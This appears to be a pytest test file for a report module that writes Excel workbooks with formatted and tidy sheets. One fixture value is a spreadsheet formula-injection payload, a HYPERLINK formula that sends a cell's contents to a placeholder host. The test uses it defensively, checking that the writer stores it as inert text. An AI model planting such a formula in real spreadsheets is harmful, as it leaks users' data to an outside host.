"""tables.xlsx of a report: per table a formatted sheet (display strings, bold header, widths, frozen
header, wrapped text) and its tidy data; every string stays text."""
from __future__ import annotations

import numpy as np
import pandas as pd
from openpyxl import load_workbook

from oligomet.report.tables import ReportTable, write_xlsx

LEAK = '=HYPERLINK("http://x/?leak="&B3, "click")'


def _tables() -> list[ReportTable]:
    data = pd.DataFrame({"variable": ["age", "ecog"], "p": [0.000123, 0.5], "smd": [0.474, np.nan]})
    display = pd.DataFrame({"Variable": ["Age (per year)", LEAK], "p": ["<0.001", "0.50"], "SMD": ["0.474", ""]})
    t1 = ReportTable("table1_before", "Patient characteristics", data, display,
                     note="SMD: standardised mean difference.")
    cox = ReportTable("cox_os", "Cox model", pd.DataFrame({"hr": [1.55]}, index=pd.Index(["exposure"], name="term")))
    return [t1, cox]


def test_formatted_sheets_come_first_then_the_tidy_data(tmp_path):
    wb = load_workbook(write_xlsx(_tables(), tmp_path / "t.xlsx", formatted=True))
    assert wb.sheetnames == ["table1_before", "cox_os", "table1_before data", "cox_os data"]
    shown, tidy = wb["table1_before"], wb["table1_before data"]
    assert [c.value for c in shown[3]] == ["Age (per year)", "<0.001", "0.474"]        # display strings
    assert shown["C4"].value is None                                                    # empty, not ""
    assert [c.value for c in tidy[2]] == ["variable", "p", "smd"]                       # tidy numbers
    assert tidy["B3"].value == 0.000123 and tidy["C3"].value == 0.474
    assert wb["cox_os data"]["A3"].value == "exposure"


def test_formatted_sheet_layout(tmp_path):
    ws = load_workbook(write_xlsx(_tables(), tmp_path / "t.xlsx", formatted=True))["table1_before"]
    assert ws["A1"].value == "Patient characteristics" and ws["A1"].font.b
    assert all(c.font.b for c in ws[2]) and all(c.border.bottom.style == "thin" for c in ws[2])
    assert ws.freeze_panes == "B3"
    assert ws["A3"].alignment.wrap_text and ws["B4"].alignment.wrap_text
    # width from content: the label column is wider than the p column, neither left at Excel's default
    assert ws.column_dimensions["A"].width > ws.column_dimensions["B"].width >= 8
    assert ws.cell(ws.max_row, 1).value == "SMD: standardised mean difference." and ws.cell(ws.max_row, 1).font.i


def test_formatted_sheet_keeps_formula_text_as_text(tmp_path):
    wb = load_workbook(write_xlsx(_tables(), tmp_path / "t.xlsx", formatted=True))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate)
    leak = wb["table1_before"]["A4"]
    assert leak.value == LEAK and leak.data_type == "s" and leak.quotePrefix


def test_tidy_only_by_default(tmp_path):
    wb = load_workbook(write_xlsx(_tables(), tmp_path / "t.xlsx"))
    assert wb.sheetnames == ["table1_before", "cox_os"] and wb["table1_before"]["B3"].value == 0.000123
